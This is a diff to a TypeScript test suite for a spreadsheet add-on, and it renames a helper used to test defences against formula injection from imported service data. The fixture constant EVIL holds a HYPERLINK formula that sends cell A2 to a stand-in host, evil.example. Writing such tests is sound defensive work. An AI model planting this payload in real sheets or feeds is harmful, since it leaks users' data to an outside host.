@@ -1,9 +1,8 @@
 /** Formulas from the service where the platform does not honour the apostrophe, or not even rich text. */
 import { describe, expect, it } from 'vitest';
 import { messages, STATUS } from '../support/scenario';
-import { formulasOf, hostileWorlds, json } from './support/hostile-world';
+import { formulasOf, openHostileWorld, json } from './support/hostile-world';
 
-const open = hostileWorlds();
 const EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"click")';
 const contacts = (memo: string) =>
   json('contacts', {
@@ -20,7 +19,7 @@ const contacts = (memo: string) =>
 
 describe('where an apostrophe is ignored', () => {
   it('rich text keeps what the service sends as texts, pull after pull, and nothing looks edited', async () => {
-    const world = await open([contacts('007')], { host: { apostrophes: 'ignored' } });
+    const world = await openHostileWorld([contacts('007')], { host: { apostrophes: 'ignored' } });
     for (const _ of [1, 2]) {
       expect(messages(world.run('menuPullContacts'))).toMatch(/^"Contacts": 40 records pulled\.[^⚠]*$/);
       expect(formulasOf(world.book)).toEqual([]);
@@ -42,7 +41,7 @@ describe('where an apostrophe is ignored', () => {
         id: `t${i}`,
         name: i % 3 === 0 ? EVIL : `x${i}`,
       }));
-      const world = await open([json('tags', { data, meta: { total: rows } })], {
+      const world = await openHostileWorld([json('tags', { data, meta: { total: rows } })], {
         host: { apostrophes: 'ignored' },
       });
       const { byMember } = world.run('menuPullTags').calls;
@@ -66,13 +65,13 @@ describe('where the look at what was written fails', () => {
         ...(ignored.length > 1 ? { richText: 'formula' as const } : {}),
       } as const;
       const count =
-        (await open([contacts('=2+2')], { host })).run('menuPullContacts').calls.byMember[
+        (await openHostileWorld([contacts('=2+2')], { host })).run('menuPullContacts').calls.byMember[
           'Range.getFormulas'
         ] ?? 0;
       expect(count).toBeGreaterThan(1);
       let failed = 0;
       for (let nth = 1; nth <= count; nth++) {
-        const world = await open([contacts('=2+2')], { host });
+        const world = await openHostileWorld([contacts('=2+2')], { host });
         // The second look fails as well.
         const exceptions = [0, 1].map(i => ({
           member: 'Range.getFormulas',
@@ -100,7 +99,7 @@ describe('where rich text runs too', () => {
   const rules = { host: { apostrophes: 'ignored', richText: 'formula' } } as const;
 
   it('the cell is emptied and named, its row says so, and nothing is sent for it', async () => {
-    const world = await open([contacts('=2+2')], rules);
+    const world = await openHostileWorld([contacts('=2+2')], rules);
     const said = messages(world.run('menuPullContacts'));
     expect(formulasOf(world.book)).toEqual([]);
     expect(said).toMatch(/cells were emptied.*"Contacts" A2/);
@@ -116,7 +115,7 @@ describe('where rich text runs too', () => {
   });
 
   it('Status, history and hidden sheets hold no formula either', async () => {
-    const world = await open(
+    const world = await openHostileWorld(
       [
         json(
           'tags',
